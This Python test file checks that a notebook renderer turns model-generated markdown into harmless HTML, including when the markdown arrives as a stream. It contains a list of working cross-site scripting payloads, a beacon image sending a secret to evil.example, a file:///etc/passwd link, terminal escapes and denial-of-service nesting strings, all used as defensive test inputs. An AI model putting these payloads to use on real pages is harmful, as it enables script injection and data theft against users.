"""Markdown from models is harmless as HTML, and the same however it grows."""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st

import rxchat
from harmless import inspected
from rxchat.errors import RateLimited
from rxchat.events import (
    Event,
    Other,
    Reasoning,
    Refusal,
    Reset,
    Start,
    Text,
    ToolCall,
)
from rxchat.notebook.cells.page import GrowingPage, columns, foot, whole
from rxchat.notebook.cells.progress import Progress
from rxchat.notebook.cells.safe_html import BLOCK, BRACKETS, GrowingMarkdown, markdown, plain

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><svg/onload=alert(1)>",
    "<style>*{display:none}</style></style><iframe src=https://evil.example></iframe>",
    "</details></div></pre></td></table><form action=https://evil.example><input>",
    "<!-- --><script>1</script> <!doctype html> <?php 1 ?> <![CDATA[<b>]]>",
    "<div\n\nonclick=alert(1)>\n\n<a href=javascript:alert(1)>x</a>",
    "[a](javascript:alert(1)) [a](JaVaScRiPt:alert(1)) [a]( javascript:alert(1))",
    "[a](java\tscript:alert(1)) [a](<java\nscript:alert(1)>) [a](\x01javascript:alert(1))",
    "[a](javascript&colon;alert(1)) [a](&#106;avascript:alert(1)) [a](&#x6A;avascript:1)",
    "[a](javascript&#58;alert(1)) [a](java&NewLine;script:1) [a](java&Tab;script:1)",
    "[a](vbscript:x) [a](data:text/html,<script>1</script>) [a](data:image/svg+xml,<svg>)",
    "[a](file:///etc/passwd) [a](blob:x) [a](//evil.example) [a](/lab) [a](#top) [a](x:y)",
    "[a](http:evil) [a](https:\\\\evil) [a](https:///evil) [a](feed:javascript:1)",
    "<javascript:alert(1)> <data:text/html,x> <vbscript:x> <JAVASCRIPT:x>",
    "[a][r]\n\n[r]: javascript:alert(1)\n\n[r2]: data:text/html,x\n\n[a][r2]",
    '[a](https://ok.example "title\\" onmouseover=alert(1) x=\\"")',
    '[a](https://ok.example/"onmouseover=alert(1))',
    "![beacon](https://evil.example/?secret=1) ![](javascript:1) ![x](data:image/png;base64,AA)",
    "![a][i]\n\n[i]: https://evil.example/pixel.png",
    "[![x](https://evil.example/x.png)](https://ok.example)",
    '```"><script>alert(1)</script>\n</code></pre><script>1</script>\n```',
    "~~~ x onclick=1\n<b>\n~~~\n\n    </pre><script>1</script>\n\n`</code><script>`",
    '| <script> | a |\n|---|:-:|\n| </td></table><script> | "x" |',
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &amp;lt;b&amp;gt;",
    "> <script>\n> > - <b>\n\n1. <i>\n999999999. x",
    "\x1b]0;title\x07 \x9b2J \x00 \ud800 \udfff \x7f \x08",
    "*" * 3000 + "a" + "*" * 3000,
    "> " * 2000 + "deep",
    "[" * 5000 + "a" + "](x)" * 5000,
]
hostile = pytest.mark.parametrize("text", HOSTILE, ids=lambda text: repr(text[:30]))


@hostile
def test_hostile_markdown_becomes_harmless_html(text: str) -> None:
    inspected(markdown(text))


@hostile
def test_it_is_harmless_at_any_cut(text: str) -> None:
    for end in range(0, len(text), 1 if len(text) < 200 else len(text) // 8):
        growing = GrowingMarkdown()
        growing.add(text[:end])
        for html in growing.read():
            inspected(html)
        growing.add(text[end:])
        for html in growing.read():
            inspected(html)


def everywhere(text: str) -> Iterator[Event | str]:
    """The text wherever a model, or a server, can put one."""
    yield Start(text, text)
    yield Reasoning(text)
    yield Text(text)
    yield ToolCall(0, "1", text, text)
    yield Other("rxchat.tool_result", rxchat.tool(text, ToolCall(0, "1")))
    yield ToolCall(1, "2", text, text)
    yield Other("rxchat.tool_result", rxchat.tool(text, ToolCall(1, "2"), failed=True))
    yield Reset("resume", text)
    yield Refusal(text)
    yield Text(text, choice=1)
    yield text


@hostile
def test_wherever_it_stands_the_page_is_harmless(text: str) -> None:
    progress = Progress()
    growing = GrowingPage(progress)
    for item in everywhere(text):
        progress.take(item)
        growing.read()
        inspected("".join(growing.settled) + growing.tail + foot(progress, None))
    progress.take({"value": text})
    progress.end("failed", RateLimited(text, provider=text, code=text))
    inspected(columns({text: whole(progress, None, text)}))


SIGNS = "<>\"'&`*_~[]()!#|:;=\\/-+. \n\t\x00\x1b\x9b\ud800é語🙂aljs"
MARKUP = ["javascript:", "data:", "http://", "https://e.x/", "mailto:a@b", "&#x6a;", "&lt;", "<!--"]
MARKUP += [
    "|a|b|\n",
    "|-|-|\n",
    "<script>",
    "</details>",
    "onerror=",
    "![",
    "](",
    "]: ",
    "|-|\n",
    "- ",
    "1. ",
    "> ",
]
TRICKY = st.sampled_from([*SIGNS, *MARKUP, "\n\n", "```", "    "])
soup = st.lists(TRICKY | st.text(max_size=5), max_size=60).map("".join)


@given(text=soup, data=st.data())
def test_any_text_cut_anywhere_is_harmless(text: str, data: st.DataObject) -> None:
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=4)))
    growing = GrowingMarkdown()
    for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True):
        growing.add(text[start:end])
        settled, rest = growing.read()
        inspected(settled)
        inspected(rest)
    inspected(markdown(text))


@given(text=soup)
def test_the_same_markdown_however_it_came(text: str) -> None:
    """What has settled and what has not are together the whole, at each moment."""
    text = text.replace("]:", "] :")  # a reference is found in the end, wherever it stands
    growing, settled = GrowingMarkdown(), ""
    for end, char in enumerate(text, 1):
        growing.add(char)
        more, rest = growing.read()
        settled += more
        assert settled + rest == markdown(text[:end])


def test_blocks_settle_and_lists_wait_for_their_end() -> None:
    growing = GrowingMarkdown()
    growing.add("# Title\n\nOne.\n\n- a\n\n- b")
    settled, rest = growing.read()
    assert settled == "<h1>Title</h1>\n<p>One.</p>\n"
    assert rest.count("<li>") == 2
    growing.add("\n\n1")
    assert growing.read()[0] == ""  # it may become an item yet
    growing.add("23 goats.\n")
    assert growing.read() == (rest, "<p>123 goats.</p>\n")


def test_a_table_may_begin_with_what_looks_like_the_end_of_a_paragraph() -> None:
    """Its second line decides, so until that is whole nothing has settled."""
    growing = GrowingMarkdown()
    for text, settled in (("One | two\n|a|b|\n|-|-", ""), ("x|\n", "")):
        growing.add(text)
        assert growing.read()[0] == settled
    growing.add("|-|-|\n|c|d|")
    assert growing.read()[0] == "<p>One | two\n|a|b|</p>\n"


def long(unit: str, opening: str = "") -> str:
    return opening + unit * (4 * BLOCK // len(unit))


LONG = {
    "a paragraph": long("word and **bold** text, "),
    "lines": long("word and **bold** text,\n"),
    "a fence": long("for x in range(10): print(x)\n", "```py\n"),
    "a fence of one line": long("x", "```py\n"),
    "a fence with a long opening": long("y\n", "```" + "x" * 8_000 + "\n"),
    "code": long("    for x in range(10): print(x)\n"),
    "a list": long("- an *item*\n"),
    "a list with long items": long(f"- {'item ' * 3_000}\n"),
    "a table": long("|x|yy|\n", "|a|b|\n|-|-|\n"),
    "a wide table": long("|\n", "|" + "a|" * 3_000 + "\n|" + "-|" * 3_000 + "\n"),
    "quotes": long("> > said\n"),
    "brackets": long("["),
    "items in items": long("- "),
    "quotes in quotes": long(">"),
    "empty lines": long("\n"),
    "references": long("[r]: https://e.example\n"),
    "an open title": long("abc\n", '[r]: https://e.example "'),
}


@pytest.mark.parametrize("text", LONG.values(), ids=LONG)
def test_what_may_yet_change_stays_short_however_long_a_block_is(text: str) -> None:
    growing = GrowingMarkdown()
    for start in range(0, len(text), BLOCK // 3):
        growing.add(text[start : start + BLOCK // 3])
        assert len(inspected(growing.read()[1]).words) <= 2 * BLOCK
        assert len(growing._text) <= BLOCK


@pytest.mark.parametrize("what", ["a fence", "a list", "a table", "code", "quotes"])
def test_no_word_of_a_long_block_is_lost_while_it_grows(what: str) -> None:
    growing, drawn, rest = GrowingMarkdown(), "", ""
    for start in range(0, len(LONG[what]), 5_000):
        growing.add(LONG[what][start : start + 5_000])
        settled, rest = growing.read()
        drawn += settled
    head = {"a", "b"} if what == "a table" else set()  # which each piece has
    seen, whole = (
        [word for word in inspected(html).words.split() if word not in head]
        for html in (drawn + rest, markdown(LONG[what]))
    )
    assert seen == whole


def test_code_stays_code_and_a_numbered_list_its_numbers_in_pieces() -> None:
    growing = GrowingMarkdown()
    growing.add("```py\n" + "# one\n" * 2_000)
    settled, rest = growing.read()
    growing.add("# two\n```\n\n# Three\n\n" + "".join(f"{n}. item\n" for n in range(1, 1_100)))
    more, end = growing.read()
    assert (settled + rest + more).count("<h1>") == 1
    number = int(re.findall(r'<ol start="(\d+)">', end)[-1])
    assert "<li>item</li>\n" in end
    assert end.count("<li>") == 1_100 - number


def test_links_lead_where_they_say() -> None:
    html = markdown('[bank](https://evil.example/é?a=1&b=2 "My bank") <mailto:a@b.example>')
    assert inspected(html).links == ["https://evil.example/%C3%A9?a=1&b=2", "mailto:a@b.example"]
    assert "My bank" not in html


def test_a_picture_is_its_address_and_is_not_loaded() -> None:
    seen = inspected(markdown("![a *cat*](https://evil.example/?secret=1)"))
    assert seen.links == []
    assert seen.words == "[picture: a cat] https://evil.example/?secret=1\n"


def test_what_looks_like_html_is_text() -> None:
    assert inspected(markdown("a <b>c</b> &amp; d")).words == "a <b>c</b> & d\n"


def test_a_long_paragraph_is_text_so_that_brackets_cost_no_time() -> None:
    assert "<strong>" in markdown("**a** " * 1000)
    assert "<strong>" in markdown("[a] **a** " * BRACKETS)
    assert inspected(markdown("![" * 2 * BRACKETS + "**a**")).words.endswith("**a**\n")
    assert inspected(markdown("**a** " * 10_000)).words.startswith("**a** **a** ")


def test_no_control_characters_in_plain_text() -> None:
    assert plain("a\x1b[2J\x00\x9b\r\n\tb\ud83d") == "a[2J\n\tb\ufffd"
